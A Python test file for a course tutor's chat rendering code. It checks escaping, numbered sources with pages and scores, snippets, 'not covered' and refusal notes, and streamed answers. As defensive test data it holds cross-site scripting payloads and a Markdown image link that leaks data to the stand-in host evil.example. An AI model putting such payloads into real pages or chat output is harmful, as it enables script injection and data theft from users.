"""What is shown under an answer: escaped, numbered sources with pages; notes; no media."""

from __future__ import annotations

from pathlib import Path

import pytest

from retrieval.ingest import ingest
from tests.conftest import write_course
from tutor.config import Settings
from tutor.pipeline import Pipeline
from tutor.services import Services
from tutor.types import Answer, ChatTurn, Source
from tutor.ui.chat import answer_turn
from tutor.ui.render import (
    neutralise_media,
    render_answer,
    render_error,
    render_sources,
    snippet,
    source_place,
)


def make_source(n: int = 1, **changes: object) -> Source:
    fields: dict[str, object] = {
        "n": n,
        "document": "chem/acids.md",
        "title": "Acids",
        "heading": "Acids > The pH scale",
        "page": None,
        "score": 0.8123,
        "text": "The pH scale runs from 0 to 14.",
    }
    fields.update(changes)
    return Source(**fields)  # type: ignore[arg-type]


def make_answer(sources: list[Source], **changes: object) -> Answer:
    answer = Answer(answer="Water is neutral [1].", mode="explain", sources=sources, model="fake")
    for key, value in changes.items():
        setattr(answer, key, value)
    return answer


def test_titles_and_snippets_are_escaped() -> None:
    html = render_sources(
        [
            make_source(
                title='<script>alert("x")</script>',
                heading="A & B",
                text="<img src=x onerror=alert(1)> tags & more",
            )
        ]
    )
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    assert "A &amp; B" in html
    assert "&lt;img src=x onerror=alert(1)&gt; tags &amp; more" in html


def test_sources_are_numbered_with_page_score_and_snippet() -> None:
    html = render_sources(
        [make_source(1, page=12), make_source(2, title="Bases", heading="", page=None)]
    )
    assert html.startswith('<details class="tutor-sources" open><summary>Sources (2)</summary>')
    assert "[1] Acids &gt; The pH scale" in html  # the title is not repeated
    assert "page 12" in html and "score 0.81" in html
    assert "[2] Bases" in html
    assert html.count("page ") == 1
    assert "The pH scale runs from 0 to 14." in html
    assert "\n" not in html  # one HTML block for the Markdown renderer


def test_no_sources_renders_nothing() -> None:
    assert render_sources([]) == ""
    assert render_answer(make_answer([])) == "Water is neutral [1]."


def test_place_falls_back_to_document_path() -> None:
    assert source_place(make_source(title="", heading="")) == "chem/acids.md"
    assert source_place(make_source(title="Acids", heading="Indicators")) == "Acids > Indicators"


def test_snippet_is_short_and_on_one_line() -> None:
    text = "word " * 200
    cut = snippet(text, limit=50)
    assert len(cut) <= 51 and cut.endswith("…") and "\n" not in cut
    assert snippet("a\n\nb") == "a b"


def test_answer_with_sources_and_notes() -> None:
    shown = render_answer(make_answer([make_source(page=3)]))
    assert shown.startswith("Water is neutral [1].\n\n<details")
    assert "page 3" in shown
    not_covered = render_answer(make_answer([], not_covered=True, answer="I could not find it."))
    assert not_covered.startswith("**Not covered by the course material.**")
    refused = render_answer(make_answer([], refused=True, answer="I can't help with that."))
    assert refused.startswith("**The tutor did not answer this question.**")


def test_media_in_model_output_is_neutralised() -> None:
    text = "See ![secret](http://evil.example/?d=abc) and <img src='http://evil.example/x'>"
    out = neutralise_media(text)
    assert "http://evil.example/?d=abc" not in out
    assert "<img" not in out and "&lt;img" in out
    assert "secret" in out


def test_error_message_is_escaped() -> None:
    assert render_error("course <b>x</b>") == (
        "Sorry, I could not answer that: course &lt;b&gt;x&lt;/b&gt;"
    )


@pytest.fixture
def tiny_pipeline(settings: Settings, tmp_path: Path) -> Pipeline:
    services = Services.build(settings, fake=True)
    ingest(
        [write_course(tmp_path / "course")],
        course="tiny",
        settings=settings,
        embedder=services.embedder,
    )
    return Pipeline(services)


def test_answer_turn_streams_then_shows_sources_and_remembers(tiny_pipeline: Pipeline) -> None:
    steps = list(
        answer_turn(tiny_pipeline, "What colour is litmus in an acid?", [], [], "tiny", "x")
    )
    first_shown, first_turns = steps[0]
    assert first_shown[0] == {"role": "user", "content": "What colour is litmus in an acid?"}
    assert first_turns == []
    assert len(steps) > 3  # streamed piece by piece
    shown, turns = steps[-1]
    assert "Litmus paper turns red" in shown[-1]["content"]
    assert '<details class="tutor-sources"' in shown[-1]["content"]
    assert len(turns) == 1 and isinstance(turns[0], ChatTurn)
    assert "<details" not in turns[0].answer  # memory holds the answer, not the display


def test_answer_turn_ignores_empty_and_reports_errors(tiny_pipeline: Pipeline) -> None:
    assert list(answer_turn(tiny_pipeline, "   ", [], [], "tiny", "explain")) == [([], [])]
    shown, turns = list(answer_turn(tiny_pipeline, "Hello?", [], [], "nothing", "explain"))[-1]
    assert shown[-1]["content"].startswith("Sorry, I could not answer that: course")
    assert "Traceback" not in shown[-1]["content"] and turns == []
    shown, _ = list(answer_turn(tiny_pipeline, "Hello?", [], [], None, "explain"))[-1]
    assert "no course has been loaded yet" in shown[-1]["content"]


def test_answer_turn_marks_not_covered(tiny_pipeline: Pipeline) -> None:
    shown, turns = list(
        answer_turn(tiny_pipeline, "Who painted the Mona Lisa?", [], [], "tiny", "guide")
    )[-1]
    assert shown[-1]["content"].startswith("**Not covered by the course material.**")
    assert turns == []


def test_course_text_takes_its_own_direction() -> None:
    html = render_sources([make_source()], "ar")
    assert '<strong dir="auto">[1] Acids &gt; The pH scale</strong>' in html
    assert '<span class="tutor-snippet" dir="auto">' in html
    assert "<summary>المصادر (1)</summary>" in html


def test_live_announcement_is_the_answer_as_plain_escaped_text() -> None:
    from tutor.ui.chat import live_announcement

    shown = render_answer(make_answer([make_source()], answer="Water <b>is</b> **neutral** [1]."))
    messages = [{"role": "user", "content": "pH?"}, {"role": "assistant", "content": shown}]
    announced = live_announcement(messages)
    assert announced == "<p>The tutor answered: Water is neutral [1].</p>"
    assert "Sources" not in announced
    assert live_announcement(messages[:1]) == "" and live_announcement([]) == ""
